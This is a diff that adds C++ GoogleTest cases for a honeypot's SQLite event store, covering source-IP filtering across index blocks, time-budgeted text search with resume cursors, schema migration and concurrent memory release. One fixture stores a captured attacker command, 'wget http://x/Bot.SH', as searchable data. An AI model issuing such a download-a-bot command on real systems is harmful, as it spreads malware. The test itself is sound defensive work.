@@ -2,6 +2,7 @@
 
 #include <gtest/gtest.h>
 
+#include <algorithm>
 #include <atomic>
 #include <chrono>
 #include <cstdlib>
@@ -776,6 +777,203 @@ TEST_F(StoreTest, LargeEventsRoundTrip) {
   EXPECT_EQ(got.value->event.password, e.password);
   EXPECT_EQ(got.value->event.raw_json, e.raw_json);
   EXPECT_EQ(got.value->event.username, e.username);
+}
+
+// Sources are answered two ways (docs/EVENTS.md): an address or range with
+// few rows through the block-local index, one with many by walking the time
+// index. Both must give every match once, newest first, across index blocks
+// (2^16 rows) and with the other filters and the cursor.
+TEST_F(StoreTest, SourceFilterAcrossIndexBlocksBothPlans) {
+  auto s = open();
+  ASSERT_TRUE(s);
+  constexpr int kEvents = 140'000;    // ids 1..140000: blocks 0, 1 and 2
+  constexpr int kBusy = 25'000;       // more than the block-index plan sorts
+  std::vector<std::int64_t> rare_us;  // index i -> event time of a rare row
+  std::vector<events::Event> batch;
+  for (int i = 0; i < kEvents; ++i) {
+    auto e = make_event(i);
+    e.raw_json = "{}";
+    e.src_ip = "172.16." + std::to_string(i % 200) + "." + std::to_string(i % 250 + 1);
+    if (i % 5 == 0 && i / 5 < kBusy) {
+      e.src_ip = "10.9.9.9";
+    }
+    if (i == 7 || i == 70'001 || i == 139'999) {
+      e.src_ip = "203.0.113.77";
+    }
+    if (i == 139'999) {
+      e.event_us = kT0 - 1'000'000;  // arrived last, but the oldest of the three
+    }
+    if (i == 70'003) {
+      e.src_ip = "203.0.113.78";
+    }
+    batch.push_back(std::move(e));
+    if (batch.size() == 10'000) {
+      ASSERT_TRUE(s->append(batch));
+    }
+  }
+  ASSERT_TRUE(s->append(batch));
+  s->flush();
+
+  // Rare address (block index): newest first by event time, not by arrival.
+  EventFilter f;
+  f.src = "203.0.113.77";
+  auto ids = ids_of(*s, f, 1);  // one per page: the cursor is used twice
+  EXPECT_EQ(ids, (std::vector<std::int64_t>{70'002, 8, 140'000}));
+  f.src = "203.0.113.0/24";
+  EXPECT_EQ(ids_of(*s, f, 2), (std::vector<std::int64_t>{70'004, 70'002, 8, 140'000}));
+  f.pot_id = "pot-1";  // i % 3 == 1: not i = 70001
+  EXPECT_EQ(ids_of(*s, f, 2), (std::vector<std::int64_t>{70'004, 8, 140'000}));
+  f.pot_id.clear();
+  f.since_us = kT0;
+  f.until_us = kT0 + 100'000'000'000;
+  EXPECT_EQ(ids_of(*s, f, 2), (std::vector<std::int64_t>{70'004, 70'002, 8}));
+  f = {};
+  f.src = "203.0.113.79";
+  EXPECT_TRUE(ids_of(*s, f).empty());
+
+  // Busy address (time walk): all of them, each once, in order.
+  f.src = "10.9.9.9";
+  ids = ids_of(*s, f, 1000);
+  ASSERT_EQ(ids.size(), static_cast<std::size_t>(kBusy));
+  EXPECT_EQ(ids.front(), static_cast<std::int64_t>((kBusy - 1) * 5 + 1));
+  EXPECT_EQ(ids.back(), 1);
+  EXPECT_TRUE(std::is_sorted(ids.rbegin(), ids.rend()));
+  f.src = "10.0.0.0/8";
+  EXPECT_EQ(ids_of(*s, f, 1000).size(), static_cast<std::size_t>(kBusy));
+  f.pot_type = "honnypotter";  // i % 3 == 0
+  EXPECT_EQ(ids_of(*s, f, 1000).size(), static_cast<std::size_t>((kBusy + 2) / 3));
+}
+
+// A free-text query with a time budget returns what it found when the
+// budget runs out, with a cursor that resumes the scan: following the
+// cursors finds every match once, newest first.
+TEST_F(StoreTest, TextScanStopsAtItsBudgetAndResumes) {
+  auto s = open();
+  ASSERT_TRUE(s);
+  const std::string pad(1000, 'p');
+  std::vector<events::Event> batch;
+  for (int i = 0; i < 60'000; ++i) {
+    auto e = make_event(i);
+    e.raw_json = R"({"pad":")" + pad + R"("})";
+    if (i == 3 || i == 31'000) {
+      e.raw_json = R"({"input":"wget http://x/Bot.SH","pad":")" + pad + R"("})";
+    }
+    batch.push_back(std::move(e));
+    if (batch.size() == 10'000) {
+      ASSERT_TRUE(s->append(batch));
+    }
+  }
+  s->flush();
+  EventQuery q;
+  q.filter.text = "bot.sh";
+  q.limit = 10;
+  q.text_scan_ms = 1;  // reading 60,000 rows of 1 KB takes far longer
+  std::vector<std::int64_t> found;
+  int pages = 0, partial_pages = 0;
+  while (true) {
+    auto page = s->query(q);
+    ASSERT_TRUE(page) << page.error.message;
+    ++pages;
+    for (const auto& e : page.value->events) {
+      found.push_back(e.id);
+    }
+    if (page.value->partial) {
+      ++partial_pages;
+      EXPECT_FALSE(page.value->next_cursor.empty());
+    }
+    if (page.value->next_cursor.empty()) {
+      break;
+    }
+    ASSERT_LT(pages, 100'000);
+    q.cursor = page.value->next_cursor;
+  }
+  EXPECT_EQ(found, (std::vector<std::int64_t>{31'001, 4}));
+  EXPECT_GE(partial_pages, 1);
+  EXPECT_EQ(pages, partial_pages + 1);
+  // Without a budget (export), one page holds both.
+  q.cursor.clear();
+  q.text_scan_ms = 0;
+  auto page = s->query(q);
+  ASSERT_TRUE(page) << page.error.message;
+  EXPECT_FALSE(page.value->partial);
+  EXPECT_EQ(page.value->events.size(), 2u);
+  EXPECT_TRUE(page.value->next_cursor.empty());
+}
+
+// A store of schema 1 (before the pot_type, node and source indexes) is
+// migrated in place, its events kept.
+TEST_F(StoreTest, MigratesSchemaOneInPlace) {
+  const auto path = dir_.file("v1.db");
+  {
+    StorageOptions o;
+    o.path = path;
+    auto s = open(o);
+    ASSERT_TRUE(s);
+    append_all(*s, range(0, 30));
+    s->flush();
+  }
+  {
+    sqlite3* db = nullptr;
+    ASSERT_EQ(sqlite3_open(path.c_str(), &db), SQLITE_OK);
+    ASSERT_EQ(sqlite3_exec(db,
+                           "DROP INDEX events_pot_type_time; DROP INDEX events_node_time; "
+                           "DROP INDEX events_block_src; PRAGMA user_version=1",
+                           nullptr, nullptr, nullptr),
+              SQLITE_OK);
+    sqlite3_close(db);
+  }
+  StorageOptions o;
+  o.path = path;
+  auto s = open(o);
+  ASSERT_TRUE(s);
+  EXPECT_EQ(count(*s, {}), 30u);
+  EventFilter f;
+  f.src = "10.0.1.9";  // i % 4 != 0 and i % 5 == 1: 1, 6, 11, 21, 26
+  EXPECT_EQ(count(*s, f), 5u);
+  sqlite3* db = nullptr;
+  ASSERT_EQ(sqlite3_open(path.c_str(), &db), SQLITE_OK);
+  sqlite3_stmt* st = nullptr;
+  ASSERT_EQ(sqlite3_prepare_v2(db,
+                               "SELECT (SELECT count(*) FROM sqlite_master WHERE type = 'index' AND name IN "
+                               "('events_pot_type_time', 'events_node_time', 'events_block_src')), "
+                               "(SELECT user_version FROM pragma_user_version)",
+                               -1, &st, nullptr),
+            SQLITE_OK);
+  ASSERT_EQ(sqlite3_step(st), SQLITE_ROW);
+  EXPECT_EQ(sqlite3_column_int(st, 0), 3);
+  EXPECT_EQ(sqlite3_column_int(st, 1), 2);
+  sqlite3_finalize(st);
+  sqlite3_close(db);
+}
+
+// release_memory() may come from any thread while the writer, the
+// checkpointer and readers are busy: nothing is lost and all keep working.
+TEST_F(StoreTest, ReleaseMemoryWhileBusyKeepsEverything) {
+  auto s = open();
+  ASSERT_TRUE(s);
+  std::atomic<bool> done{false};
+  std::thread releaser([&] {
+    while (!done) {
+      s->release_memory();
+      std::this_thread::yield();
+    }
+  });
+  for (int round = 0; round < 20; ++round) {
+    append_all(*s, range(round * 500, round * 500 + 500));
+    EventFilter f;
+    f.pot_type = "honnypotter";
+    auto page = s->query(EventQuery{f, 10, {}});
+    ASSERT_TRUE(page) << page.error.message;
+  }
+  s->flush();
+  done = true;
+  releaser.join();
+  s->release_memory();
+  EXPECT_EQ(s->counters().stored, 10'000u);
+  EXPECT_EQ(count(*s, {}), 10'000u);
+  append_all(*s, range(10'000, 10'010));  // the writer still takes work after a release
+  s->flush();
+  EXPECT_EQ(count(*s, {}), 10'010u);
 }
 
 }  // namespace
